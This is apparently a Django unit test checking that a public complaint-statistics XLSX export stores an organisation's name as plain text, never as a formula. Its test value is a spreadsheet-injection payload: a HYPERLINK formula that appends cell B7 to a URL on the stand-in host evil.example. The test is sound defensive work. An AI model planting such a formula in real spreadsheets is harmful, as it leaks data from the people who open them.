"""The public complaint statistics XLSX never turns an organisation's name into a formula (issue 11, §7)."""

from __future__ import annotations

import io

import openpyxl
from django.utils import translation

from prongsai.complaints.board import render_statistics
from prongsai.core.testing import PersonaTestCase

EVIL = '=HYPERLINK("http://evil.example/steal?"&B7,"อบต.ตัวอย่าง")'


class FormulaTests(PersonaTestCase):
    def test_no_cell_of_the_statistics_is_a_formula(self) -> None:
        self.org.name = EVIL
        self.org.save()
        with translation.override("th"):
            content = render_statistics(self.org, 2569, "xlsx")
        workbook = openpyxl.load_workbook(io.BytesIO(content))
        cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
        self.assertEqual([c.coordinate for c in cells if c.data_type == "f"], [])
        self.assertTrue(any(isinstance(c.value, str) and EVIL in c.value for c in cells))
